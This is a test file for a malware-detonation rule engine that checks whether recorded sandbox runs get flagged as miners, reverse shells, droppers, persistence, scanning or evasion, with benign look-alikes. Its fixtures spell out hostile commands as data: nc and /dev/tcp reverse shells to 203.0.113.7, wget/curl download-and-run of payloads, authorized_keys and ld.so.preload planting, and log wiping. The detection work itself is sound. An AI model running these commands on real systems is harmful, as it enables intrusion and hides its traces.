import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import type { DetonationResult } from '../../src/detonate/session.js';
import type { Finding } from '../../src/model/index.js';
import { loadVerdictRules, type VerdictRules } from '../../src/verdict/index.js';
import { applet, conn, detonation, minerRun, proc, sinkConnection, SINK } from './behavior.js';

const extraRules = fileURLToPath(new URL('./fixtures/extra-rules', import.meta.url));
let rules: VerdictRules;
beforeAll(async () => {
  rules = await loadVerdictRules({ dirs: [extraRules] });
});

const judge = (r: DetonationResult): Finding[] => rules.evaluateBehavior(r);
const byRule = (findings: Finding[]): Record<string, Finding> => Object.fromEntries(findings.map((f) => [f.rule, f]));
const MALICIOUS = new Set(['cryptominer', 'hacking-tool', 'backdoor', 'malware', 'windows-malware', 'malicious-package']);

// ---------------------------------------------------------------------------------------------------------------
// Positive examples, one scenario per theme (also used to prove every shipped rule fires)

const reverseShellNc = (): DetonationResult =>
  detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '-c', 'nc 203.0.113.7 4444 -e /bin/sh'], '/bin/sh', 0),
      applet(8, 1, 'nc', ['203.0.113.7', '4444', '-e', '/bin/sh']),
      proc(9, 8, ['/bin/sh'], '/bin/sh', 140),
      applet(10, 9, 'id', []),
    ],
    connections: [conn({ pid: 8, dst: '203.0.113.7', port: 4444 })],
  });

const reverseShellDevTcp = (): DetonationResult =>
  detonation({
    processes: [
      proc(1, 0, ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'], '/bin/bash', 0),
      proc(6, 1, ['bash', '-i'], '/bin/bash', 20),
    ],
    connections: [conn({ pid: 6, dst: '203.0.113.7', port: 4444 })],
  });

const downloader = (): DetonationResult =>
  detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '-c', 'wget -O /tmp/kworker http://dl.example.invalid/k; chmod +x /tmp/kworker; /tmp/kworker'], '/bin/sh', 0),
      proc(2, 1, ['wget', '-O', '/tmp/kworker', 'http://dl.example.invalid/k'], '/bin/busybox', 10),
      proc(3, 1, ['chmod', '+x', '/tmp/kworker'], '/bin/busybox', 400),
      proc(4, 1, ['/tmp/kworker'], '/tmp/kworker', 420),
    ],
    files: [
      { op: 'create', path: '/tmp/kworker', pid: 2 },
      { op: 'chmod', path: '/tmp/kworker', pid: 3, mode: 0o755 },
    ],
    dns: [{ name: 'dl.example.invalid', type: 'A', pid: null }],
    connections: [conn({ pid: 2, dst: SINK, port: 80, host: 'dl.example.invalid', protocol: 'http', firstBytes: 'GET /k HTTP/1.1\\r\\nHost: dl.example.invalid' })],
    sinkhole: {
      events: [
        sinkConnection({ address: SINK, port: 80 }, 'http', {
          requests: [{ method: 'GET', path: '/k', version: '1.1', host: 'dl.example.invalid', userAgent: 'Wget', headers: [], bodyPreview: null }],
        }),
      ],
      stats: null,
    },
  });

const scriptDownloader = (): DetonationResult =>
  detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '-c', 'cd /tmp && curl -fsSL -o i.sh http://dl.example.invalid/i.sh && sh ./i.sh'], '/bin/sh', 0),
      proc(2, 1, ['curl', '-fsSL', '-o', 'i.sh', 'http://dl.example.invalid/i.sh'], '/usr/bin/curl', 10),
      proc(3, 1, ['sh', './i.sh'], '/bin/sh', 300),
      // a script the entrypoint generated itself is no download, though a child of the same shell fetched something
      proc(4, 1, ['/bin/sh', '/etc/app/start.sh'], '/bin/sh', 400),
      // `curl URL > /tmp/p.sh; sh /tmp/p.sh`: the shell wrote what its child fetched
      proc(5, 0, ['/bin/sh', '-c', 'curl -s http://dl.example.invalid/p.sh > /tmp/p.sh; bash /tmp/p.sh'], '/bin/sh', 500),
      proc(6, 5, ['curl', '-s', 'http://dl.example.invalid/p.sh'], '/usr/bin/curl', 510),
      proc(7, 5, ['bash', '/tmp/p.sh'], '/bin/bash', 900),
    ],
    files: [
      { op: 'create', path: '/tmp/i.sh', pid: 2 },
      { op: 'create', path: '/etc/app/start.sh', pid: 1 },
      { op: 'create', path: '/tmp/p.sh', pid: 5 },
    ],
    connections: [conn({ pid: 2, dst: SINK, port: 80, host: 'dl.example.invalid', protocol: 'http' }), conn({ pid: 6, dst: SINK, port: 8080, host: 'dl.example.invalid', protocol: 'http' })],
  });

/** The monitor fixture's script (src/detonate/monitor/testdata/detonate.sh.txt), as the monitor reports it. */
const fixtureScript = (): DetonationResult =>
  detonation({
    processes: [
      proc(1, 0, ['/detonate.sh'], '/detonate.sh', 0),
      proc(3, 1, ['sh', '-c', 'echo "hi from sh -c"'], '/bin/sh', 5),
      proc(5, 1, ['/tmp/x'], '/tmp/x', 20),
      proc(6, 1, ['nc', '-w', '1', '203.0.113.7', '4444'], '/bin/nc', 30),
      proc(7, 1, ['sleep', '30'], '/bin/sleep', 40),
    ],
    files: [
      { op: 'create', path: '/tmp/x', pid: 1 },
      { op: 'chmod', path: '/tmp/x', pid: 4, mode: 0o755 },
      { op: 'create', path: '/tmp/junk', pid: 1 },
      { op: 'delete', path: '/tmp/junk', pid: 1 },
      { op: 'create', path: '/etc/crontab', pid: 1, error: 'EROFS' },
      { op: 'create', path: '/root/.ash_history', pid: 1 },
      { op: 'rename', path: '/tmp/x', to: '/tmp/y', pid: 1 },
    ],
    kills: [{ pid: 1, target: 7, signal: 'SIGKILL', targetExe: '/bin/sleep' }],
  });

const persistence = (): DetonationResult =>
  detonation({
    processes: [proc(1, 0, ['/bin/sh', '/install.sh'], '/bin/sh', 0), proc(2, 1, ['mv', '/tmp/rc', '/root/.bashrc'], '/bin/mv')],
    files: [
      { op: 'create', path: '/etc/cron.d/sysupdate', pid: 1, error: 'EROFS' },
      { op: 'create', path: '/var/spool/cron/crontabs/root', pid: 1 },
      { op: 'create', path: '/root/.ssh/authorized_keys', pid: 1 },
      { op: 'write', path: '/etc/ld.so.preload', pid: 1, error: 'EACCES' },
      { op: 'create', path: '/etc/systemd/system/sysupdate.service', pid: 1 },
      { op: 'create', path: '/etc/rc.local', pid: 1 },
      { op: 'create', path: '/tmp/rc', pid: 1 },
      { op: 'rename', path: '/tmp/rc', to: '/root/.bashrc', pid: 2 },
    ],
  });

const scanner = (): DetonationResult =>
  detonation({
    processes: [proc(1, 0, ['/usr/bin/masscan-like', '198.51.100.0/24', '-p22'], '/usr/bin/masscan-like', 0)],
    connections: [
      ...Array.from({ length: 25 }, (_, i) => conn({ pid: 1, dst: `198.51.100.${i + 1}`, port: 22 })),
      ...Array.from({ length: 5 }, (_, i) => conn({ pid: 1, dst: '192.0.2.10', port: 8000 + i })),
    ],
  });

const portScanner = (): DetonationResult =>
  detonation({
    processes: [proc(1, 0, ['/scan', '192.0.2.10'], '/scan', 0)],
    connections: Array.from({ length: 40 }, (_, i) => conn({ pid: 1, dst: '192.0.2.10', port: 1 + i })),
  });

const evasion = (): DetonationResult =>
  detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '-c', 'pkill -9 xmrig; history -c; truncate -s 0 /var/log/syslog'], '/bin/sh', 0),
      applet(2, 1, 'pkill', ['-9', 'xmrig']),
      applet(3, 1, 'truncate', ['-s', '0', '/var/log/syslog']),
      applet(4, 1, 'ln', ['-sf', '/dev/null', '/root/.bash_history']),
      applet(5, 1, 'rm', ['-f', '/var/log/auth.log']),
    ],
    files: [
      { op: 'delete', path: '/var/log/auth.log', pid: 5 },
      { op: 'delete', path: '/root/.bash_history', pid: 4 },
    ],
    kills: [{ pid: 2, target: 4242, signal: 'SIGKILL' }],
  });

/** The download failed (the sink's answer was refused), so the miner it meant to start is not there: only the attempt shows. */
const failedMinerDropper = (): DetonationResult =>
  detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '-c', 'wget -O /tmp/kworker http://dl.example.invalid/k; chmod +x /tmp/kworker; /tmp/kworker -o stratum+tcp://pool.example.test:3333 -u 44AF'], '/bin/sh', 0),
      proc(2, 1, ['wget', '-O', '/tmp/kworker', 'http://dl.example.invalid/k'], '/bin/busybox', 10),
    ],
    failedExecs: [
      { pid: 3, exe: '/bin/chmod', argv: ['chmod', '+x', '/tmp/kworker'], error: 'ENOENT', atMs: 400 },
      { pid: 4, exe: '/tmp/kworker', argv: ['/tmp/kworker', '-o', 'stratum+tcp://pool.example.test:3333', '-u', '44AF'], error: 'ENOENT', atMs: 420 },
    ],
  });

const positives: [string, () => DetonationResult][] = [
  ['failed miner dropper', failedMinerDropper],
  ['miner', minerRun],
  ['reverse shell (nc -e)', reverseShellNc],
  ['reverse shell (/dev/tcp)', reverseShellDevTcp],
  ['downloader', downloader],
  ['script downloader', scriptDownloader],
  ['monitor fixture script', fixtureScript],
  ['persistence', persistence],
  ['scanner', scanner],
  ['port scanner', portScanner],
  ['evasion', evasion],
];

describe('shipped behaviour rules: what they find', () => {
  it('a stratum miner: stratum connection, pool lookup, miner process and sustained CPU', () => {
    const found = byRule(judge(minerRun()));
    expect(found['behavior.cryptominer.stratum']).toMatchObject({
      category: 'cryptominer',
      severity: 'critical',
      source: 'dynamic',
      attack: ['T1496'],
      title: expect.stringContaining('mining over stratum to pool.example.test:3333 (agent XMRig/6.21.0'),
    });
    expect(found['behavior.cryptominer.stratum']!.evidence!.events).toEqual([
      {
        kind: 'connection',
        proto: 'tcp',
        dst: SINK,
        port: 3333,
        protocol: 'stratum',
        host: 'pool.example.test',
        pid: 7,
        stratum: { methods: ['login'], wallet: expect.stringMatching(/^44AFF/), agent: expect.stringMatching(/^XMRig/) },
      },
    ]);
    expect(found['behavior.cryptominer.pool-dns']).toMatchObject({ severity: 'high', title: 'looks up the mining pool pool.example.test' });
    expect(found['behavior.cryptominer.miner-process']).toMatchObject({ severity: 'high', path: '/opt/xmrig' });
    const sustained = found['behavior.cryptominer.sustained-cpu']!;
    expect(sustained).toMatchObject({ severity: 'critical', title: 'mines with sustained CPU: 0.94 cores busy over 10 s' });
    expect((sustained.evidence!.events as { kind: string }[]).map((e) => e.kind)).toEqual(['process', 'connection', 'dns', 'dns']);
    expect(sustained.evidence!.description).toMatch(/half a core/);
  });

  it('a miner the sample tried to start but could not (its download failed) is still a miner, by its command line', () => {
    const found = byRule(judge(failedMinerDropper()));
    expect(found['behavior.cryptominer.miner-attempt']).toMatchObject({
      category: 'cryptominer',
      severity: 'high',
      path: '/tmp/kworker',
      title: 'tries to run a miner: /tmp/kworker -o stratum+tcp://pool.example.test:3333 -u 44AF (ENOENT)',
    });
    // the chmod that was not found is no miner
    expect(judge(failedMinerDropper()).filter((f) => f.rule === 'behavior.cryptominer.miner-attempt')).toHaveLength(1);
  });

  it('the same miner on an idle CPU is a miner, but not "sustained CPU"; a renamed miner is caught by its options', () => {
    const idle = judge({ ...minerRun(), cpu: { seconds: 0.5, peakCores: 0.3 } }).map((f) => f.rule);
    expect(idle).toContain('behavior.cryptominer.miner-process');
    expect(idle).not.toContain('behavior.cryptominer.sustained-cpu');
    const renamed = detonation({ processes: [proc(3, 1, ['/usr/sbin/kthreadd2', '-a', 'randomx', '-t', '2'], '/usr/sbin/kthreadd2')], cpu: { seconds: 8, peakCores: 1 } });
    const found = byRule(judge(renamed));
    expect(found['behavior.cryptominer.miner-process']?.title).toBe('runs a miner: /usr/sbin/kthreadd2 -a randomx -t 2');
    expect(found['behavior.cryptominer.sustained-cpu']).toBeUndefined(); // no miner name, no pool: the argv rule is the evidence
  });

  it('a reverse shell through nc -e: the shell fed by the connection, and the nc that hands it over', () => {
    const found = byRule(judge(reverseShellNc()));
    expect(found['behavior.backdoor.reverse-shell']).toMatchObject({
      category: 'backdoor',
      severity: 'critical',
      attack: ['T1059.004'],
      title: 'reverse shell: /bin/sh fed by a connection to 203.0.113.7:4444',
      path: '/bin/sh',
    });
    expect(found['behavior.backdoor.reverse-shell']!.evidence!.events).toEqual([{ kind: 'process', pid: 9, ppid: 8, exe: '/bin/sh', argv: ['/bin/sh'] }]);
    expect(found['behavior.backdoor.socket-program']?.title).toBe('hands a shell to a socket: nc 203.0.113.7 4444 -e /bin/sh');
  });

  it('a bash /dev/tcp reverse shell', () => {
    const found = byRule(judge(reverseShellDevTcp()));
    expect(found['behavior.backdoor.reverse-shell']?.title).toBe('reverse shell: bash -i fed by a connection to 203.0.113.7:4444');
    expect(found['behavior.backdoor.socket-program']?.title).toContain('/dev/tcp/203.0.113.7/4444');
  });

  it('download, chmod and exec: one critical finding naming the download, not also the plain "runs a dropped file"', () => {
    const findings = judge(downloader());
    expect(findings.map((f) => f.rule)).toEqual(['behavior.dropper.download-chmod-exec']);
    expect(findings[0]).toMatchObject({
      category: 'suspicious',
      severity: 'critical',
      path: '/tmp/kworker',
      title: 'downloads /tmp/kworker from dl.example.invalid:80, makes it executable and runs it',
      attack: ['T1105', 'T1204'],
    });
  });

  it('a downloaded script run by a shell (relative path resolved), not a script the entrypoint wrote itself', () => {
    const findings = judge(scriptDownloader());
    expect(findings.map((f) => f.rule)).toEqual(['behavior.dropper.run-downloaded-script']);
    expect(findings[0]).toMatchObject({ severity: 'high', title: 'runs the script /tmp/i.sh, downloaded from dl.example.invalid:80 (and 1 more)', path: '/bin/sh' });
    expect((findings[0]!.evidence!.events as { pid: number }[]).map((e) => e.pid)).toEqual([3, 7]);
  });

  it('the monitor fixture script: runs a file it wrote, tries to write a crontab, overwrites its shell history', () => {
    const found = byRule(judge(fixtureScript()));
    expect(found['behavior.dropper.exec-dropped']).toMatchObject({ severity: 'high', title: 'runs /tmp/x, a file written during the run' });
    expect(found['behavior.persistence.cron']).toMatchObject({ severity: 'high', title: 'persistence: writes the crontab /etc/crontab' });
    expect(found['behavior.persistence.cron']!.evidence!.events).toEqual([{ kind: 'file', op: 'create', path: '/etc/crontab', error: 'EROFS', pid: 1 }]);
    expect(found['behavior.evasion.clear-history-file']?.title).toBe('clears the shell history /root/.ash_history');
    // killing its own child is job control, not evasion
    expect(found['behavior.evasion.kill-foreign']).toBeUndefined();
    // nc without -e is not a backdoor, and without a per-connection pid nothing is "connected"
    expect(Object.keys(found).filter((r) => r.startsWith('behavior.backdoor'))).toEqual([]);
  });

  it('persistence and planted access: crontabs, systemd, rc.local, shell rc (by rename), authorized_keys, ld.so.preload; attempts count', () => {
    const found = byRule(judge(persistence()));
    expect(found['behavior.persistence.cron']).toMatchObject({ title: 'persistence: writes the crontab /etc/cron.d/sysupdate (and 1 more)', attack: ['T1053.003'] });
    expect(found['behavior.persistence.systemd']).toMatchObject({ path: '/etc/systemd/system/sysupdate.service', attack: ['T1543.002'] });
    expect(found['behavior.persistence.init-script']?.path).toBe('/etc/rc.local');
    expect(found['behavior.persistence.shell-rc']).toMatchObject({ path: '/root/.bashrc', title: 'persistence: writes the shell start-up file /root/.bashrc' });
    expect(found['behavior.backdoor.authorized-keys']).toMatchObject({ category: 'backdoor', severity: 'high', attack: ['T1098.004'], path: '/root/.ssh/authorized_keys' });
    expect(found['behavior.backdoor.ld-so-preload']).toMatchObject({ category: 'backdoor', severity: 'critical', attack: ['T1574.006'] });
    expect(found['behavior.backdoor.ld-so-preload']!.evidence!.events).toEqual([{ kind: 'file', op: 'write', path: '/etc/ld.so.preload', error: 'EACCES', pid: 1 }]);
  });

  it('scanning: many addresses, or many ports of one address, cites the connections (at most 10)', () => {
    const wide = byRule(judge(scanner()))['behavior.scanning.many-destinations']!;
    expect(wide).toMatchObject({ category: 'hacking-tool', severity: 'high', attack: ['T1046'], title: 'scans the network: 30 connections to 26 addresses (up to 5 ports on one)' });
    expect(wide.evidence!.count).toBe(30);
    expect(wide.evidence!.events).toHaveLength(10);
    expect(byRule(judge(portScanner()))['behavior.scanning.many-destinations']?.title).toContain('up to 40 ports on one');
  });

  it('evasion: pkill by name, a signal to a foreign pid, deleting logs, truncate, history linked to /dev/null, history -c', () => {
    const found = byRule(judge(evasion()));
    expect(found['behavior.evasion.kill-by-name']?.title).toBe('kills programs by name: pkill -9 xmrig');
    expect(found['behavior.evasion.kill-foreign']?.title).toBe('sends SIGKILL to pid 4242, a process it did not start');
    expect(found['behavior.evasion.clear-logs']?.path).toBe('/var/log/auth.log');
    expect(found['behavior.evasion.clear-logs-tool']?.title).toBe('wipes logs: truncate -s 0 /var/log/syslog');
    expect(found['behavior.evasion.clear-history-file']?.path).toBe('/root/.bash_history');
    expect(found['behavior.evasion.clear-history-command']!.evidence!.count).toBe(2); // sh -c '… history -c …' and ln -sf /dev/null
    for (const f of Object.values(found)) expect(f).toMatchObject({ category: 'suspicious', severity: 'moderate' });
  });

  it('every shipped rule fires on at least one positive example', () => {
    const fired = new Set(positives.flatMap(([, make]) => judge(make()).map((f) => f.rule)));
    // `on: finding` rules judge reports, not runs: test/verdict/golden.test.ts shows each of them firing.
    const shipped = rules.rules.filter((r) => r.kind !== 'finding').map((r) => r.id);
    expect(shipped.length).toBeGreaterThanOrEqual(20);
    expect(shipped.filter((id) => !fired.has(id))).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Benign look-alikes

describe('shipped behaviour rules: benign images stay clean', () => {
  it('busybox httpd started by a shell entrypoint that execs it', () => {
    const r = detonation({
      processes: [
        proc(1, 0, ['/bin/sh', '/entrypoint.sh'], '/bin/sh', 0),
        proc(1, 0, ['busybox', 'httpd', '-f', '-p', '8080', '-h', '/www'], '/bin/busybox', 12),
      ],
      files: [{ op: 'create', path: '/var/log/httpd.log', pid: 1 }],
      timedOut: true,
      killedBy: 'deadline',
    });
    expect(judge(r)).toEqual([]);
  });

  it('a node server that talks to its database and runs shell commands; python http.server; a healthcheck on /dev/tcp', () => {
    const r = detonation({
      processes: [
        proc(1, 0, ['node', 'server.js'], '/usr/local/bin/node', 0),
        proc(20, 1, ['/bin/sh', '-c', 'date +%s'], '/bin/sh', 300),
        proc(21, 20, ['date', '+%s'], '/bin/date', 301),
        proc(30, 1, ['python3', '-m', 'http.server', '8000'], '/usr/bin/python3', 400),
        proc(40, 1, ['/bin/bash', '-c', 'echo > /dev/tcp/localhost/8000 && echo ok'], '/bin/bash', 500),
      ],
      dns: [{ name: 'db.example.com', type: 'A', pid: null }],
      connections: [conn({ pid: 1, dst: SINK, port: 5432, host: 'db.example.com' }), conn({ pid: 40, dst: '127.0.0.1', port: 8000 })],
      cpu: { seconds: 7, peakCores: 0.9 },
    });
    expect(judge(r)).toEqual([]);
  });

  it('a package manager run: apt downloads, dpkg writes cron and systemd files and runs maintainer scripts', () => {
    const r = detonation({
      processes: [
        proc(1, 0, ['/bin/sh', '-c', 'apt-get update && apt-get install -y cron && exec cron -f'], '/bin/sh', 0),
        proc(2, 1, ['apt-get', 'update'], '/usr/bin/apt-get', 10),
        proc(3, 2, ['/usr/lib/apt/methods/http'], '/usr/lib/apt/methods/http', 20),
        proc(4, 1, ['apt-get', 'install', '-y', 'cron'], '/usr/bin/apt-get', 900),
        proc(5, 4, ['/usr/bin/dpkg', '--status-fd', '23', '--unpack', '/var/cache/apt/archives/cron.deb'], '/usr/bin/dpkg', 1000),
        proc(6, 5, ['/var/lib/dpkg/info/cron.postinst', 'configure'], '/var/lib/dpkg/info/cron.postinst', 1100),
        proc(7, 6, ['/bin/sh', '/var/lib/dpkg/info/cron.postinst', 'configure'], '/bin/sh', 1101),
        proc(1, 0, ['cron', '-f'], '/usr/sbin/cron', 1500),
      ],
      files: [
        { op: 'create', path: '/var/lib/apt/lists/partial/deb.example.com_InRelease', pid: 3 },
        { op: 'create', path: '/etc/cron.daily/dpkg.dpkg-new', pid: 5 },
        { op: 'rename', path: '/etc/cron.daily/dpkg.dpkg-new', to: '/etc/cron.daily/dpkg', pid: 5 },
        { op: 'create', path: '/lib/systemd/system/cron.service', pid: 5 },
        { op: 'create', path: '/var/lib/dpkg/info/cron.postinst', pid: 5 },
        { op: 'chmod', path: '/var/lib/dpkg/info/cron.postinst', pid: 5, mode: 0o755 },
        { op: 'create', path: '/etc/init.d/cron', pid: 5 },
        { op: 'create', path: '/etc/systemd/system/multi-user.target.wants/cron.service', pid: 7 },
        { op: 'delete', path: '/var/log/apt/eipp.log.xz', pid: 4 },
      ],
      dns: [{ name: 'deb.example.com', type: 'A', pid: null }],
      connections: [conn({ pid: 3, dst: SINK, port: 80, host: 'deb.example.com', protocol: 'http' })],
    });
    expect(judge(r)).toEqual([]);
  });

  it('log rotation and an interactive shell saving its own history', () => {
    const r = detonation({
      processes: [
        proc(1, 0, ['/usr/sbin/rsyslogd', '-n'], '/usr/sbin/rsyslogd', 0),
        proc(2, 0, ['/usr/sbin/logrotate', '/etc/logrotate.conf'], '/usr/sbin/logrotate', 100),
        proc(3, 2, ['/bin/sh', '-c', 'invoke-rc.d rsyslog rotate'], '/bin/sh', 110),
        proc(4, 0, ['/bin/sh'], '/bin/sh', 200),
      ],
      files: [
        { op: 'rename', path: '/var/log/syslog', to: '/var/log/syslog.1', pid: 2 },
        { op: 'delete', path: '/var/log/syslog.5.gz', pid: 2 },
        { op: 'create', path: '/var/log/syslog', pid: 1 },
        { op: 'create', path: '/root/.ash_history', pid: 4 },
      ],
      kills: [{ pid: 3, target: 1, signal: 'SIGHUP', targetExe: '/usr/sbin/rsyslogd' }],
    });
    expect(judge(r)).toEqual([]);
  });

  it('no benign scenario gets a malicious category', () => {
    // The positives' non-malicious themes stay out of the malicious set too: a dropper is `suspicious`.
    expect(judge(downloader()).some((f) => MALICIOUS.has(f.category))).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Hostile data

describe('shipped behaviour rules: hostile run data', () => {
  it('renders attacker strings in titles and evidence as bounded printable text', () => {
    const evil = '<script>alert(1)</script>\u001b[31m\n' + 'A'.repeat(100_000);
    const r = detonation({
      processes: [proc(1, 0, ['/bin/sh', '-c', 'x'], '/bin/sh', 0), proc(2, 1, ['xmrig', evil], '/tmp/xmrig', 5)],
      files: [{ op: 'create', path: `/etc/cron.d/${evil}`, pid: 1 }],
    });
    const found = byRule(judge(r));
    const title = found['behavior.cryptominer.miner-process']!.title;
    expect([...title].some((ch) => ch.charCodeAt(0) < 0x20)).toBe(false);
    expect(title).toContain('\\x1b[31m\\n');
    expect(title.length).toBeLessThan(400);
    const cron = found['behavior.persistence.cron']!;
    expect(JSON.stringify(cron.evidence).length).toBeLessThan(2_000);
  });

  it('does not hang on a ppid cycle, thousands of processes, or garbage values', () => {
    const processes = Array.from({ length: 5_000 }, (_, i) => proc(i + 2, i + 3, ['/bin/sh'], '/bin/sh', i));
    processes.push(proc(5_002, 2, ['/bin/sh'], '/bin/sh', 1)); // closes the loop
    const r = detonation({
      processes,
      connections: [conn({ pid: 2, dst: '203.0.113.9', port: 1 })],
      files: [{ op: 'rename', path: '/a', to: '/b', pid: 2 }, { op: 'rename', path: '/b', to: '/a', pid: 2 }],
      kills: [{ pid: 2, target: -1, signal: 'SIG\u0000' }],
      dns: [{ name: '.'.repeat(10_000), type: 'A', pid: null }],
    });
    const start = performance.now();
    const findings = judge(r);
    expect(performance.now() - start).toBeLessThan(5_000);
    // ancestors are walked at most 64 deep: the shells near the connected one are found, the loop is not followed
    expect(findings.find((f) => f.rule === 'behavior.backdoor.reverse-shell')?.evidence?.count).toBe(65);
  });

  it('an empty result, and a result from an older producer without kills or pids, give no findings and no errors', () => {
    expect(judge(detonation())).toEqual([]);
    const old = { ...detonation({ processes: [proc(1, 0, ['/bin/sh'], '/bin/sh', 0)] }) } as Partial<DetonationResult>;
    delete old.kills;
    expect(judge(old as DetonationResult)).toEqual([]);
  });
});
